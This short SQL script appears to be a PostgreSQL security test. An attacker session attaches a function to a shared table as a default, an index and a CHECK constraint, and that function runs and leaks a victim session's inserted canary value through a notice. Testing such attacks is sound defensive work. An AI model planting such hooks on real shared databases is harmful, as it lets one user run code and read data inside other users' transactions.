-- A default, a constraint and an index of the attacker's on a shared table.
CREATE FUNCTION spies(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE 'PWNED %', $1; RETURN $1; END $$;
ALTER TABLE public.shared ALTER note SET DEFAULT spies('x');
CREATE INDEX ON public.shared (spies(note));
ALTER TABLE public.shared ADD CHECK (spies(note) <> '?');
-- @session victim
INSERT INTO shared VALUES (50, 'CANARY_note');
